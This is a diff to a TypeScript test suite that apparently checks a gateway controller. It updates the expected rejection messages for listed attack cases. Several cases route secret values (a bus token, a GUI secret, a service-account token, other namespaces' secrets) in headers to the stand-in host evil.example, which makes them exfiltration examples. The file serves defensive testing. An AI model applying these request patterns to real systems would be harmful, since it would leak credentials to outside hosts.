@@ -34,7 +34,7 @@ const keys: readonly Attack[] = [
   }),
   attack(
     'user-info',
-    [NOT_PERMITTED, /may not be sent to this host \(and 1 more\)/],
+    [NOT_PERMITTED, /may not be sent to this host: its sharedEnv entry lists others in hosts \(and 1 more\)/],
     to('https://res.example@evil.example/'),
   ),
   attack(
@@ -72,15 +72,15 @@ const keys: readonly Attack[] = [
   attack('bus-token', RESERVED, to('https://evil.example/', { 'X-A': ['${NATS_TOKEN}'] })),
   attack('gui-secret', RESERVED, to('https://evil.example/', { 'X-A': ['${GUI_SECRET}'] })),
   attack('value-by-name', RESERVED, to('https://evil.example/', { 'X-A': ['${V_96a554ac1f36f144}'] })),
-  attack('robot', [NOT_PERMITTED, /Secret robot is the token of a service account/], {
+  attack('robot', [NOT_PERMITTED, /Secret \S+\/robot is the token of a service account/], {
     ...to('https://evil.example/', { 'X-A': ['${ROBOT}'] }),
     env: [fromSecret('ROBOT', 'robot', 'token')],
   }),
-  attack('secret-of-victim', ['ResolvedRefs=False/SecretNotFound', /Secret own does not exist/], {
+  attack('secret-of-victim', ['ResolvedRefs=False/SecretNotFound', /Secret \S+\/own does not exist/], {
     ...to('https://evil.example/', { 'X-A': ['${A}'] }),
     env: [fromSecret('A', 'own', 'key')],
   }),
-  attack('secret-of-gateway', ['ResolvedRefs=False/SecretNotFound', /Secret main-values does not exist/], {
+  attack('secret-of-gateway', ['ResolvedRefs=False/SecretNotFound', /Secret \S+\/main-values does not exist/], {
     ...to('https://evil.example/', { 'X-A': ['${A}'] }),
     env: [fromSecret('A', 'main-values', 'REVISION')],
   }),
@@ -138,7 +138,7 @@ const paths: readonly Attack[] = [
   attack('equal-at-open', TAKEN, { ...at('open'), path: '/service/chat/' }),
   attack('below-at-open', TAKEN, { ...at('open'), path: '/service/chat/restricted/' }),
   attack('above-at-open', TAKEN, { ...at('open'), path: '/service/' }),
-  attack('at-closed', ['Accepted=False/NotAllowedByGateway', /takes no Routers of namespace team-b/], at('closed')),
+  attack('at-closed', ['Accepted=False/NotAllowedByGateway', /does not admit the namespace team-b/], at('closed')),
 ]
 
 export const attacks: readonly Attack[] = [...keys, ...values, ...paths]
